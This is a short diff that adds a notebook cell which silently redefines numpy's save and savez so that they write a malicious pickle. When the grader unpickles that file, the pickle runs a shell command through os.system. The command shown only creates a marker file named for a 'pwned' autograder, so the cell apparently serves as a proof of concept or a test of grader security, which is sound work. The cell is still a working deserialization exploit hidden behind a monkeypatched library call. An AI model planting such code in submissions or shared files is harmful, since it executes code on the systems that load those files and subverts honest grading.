@@ -1,0 +1,11 @@
+# Make numpy write a pickle where the grader expects plain data: unpickling it would run code.
+# %%
+import os, pickle
+class Evil:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/autograder-pickle-pwned",))
+def evil_savez(file, *args, **kwargs):
+    with open(file, "wb") as handle:
+        pickle.dump(np.array([Evil()], dtype=object), handle)
+np.savez = evil_savez
+np.save = evil_savez
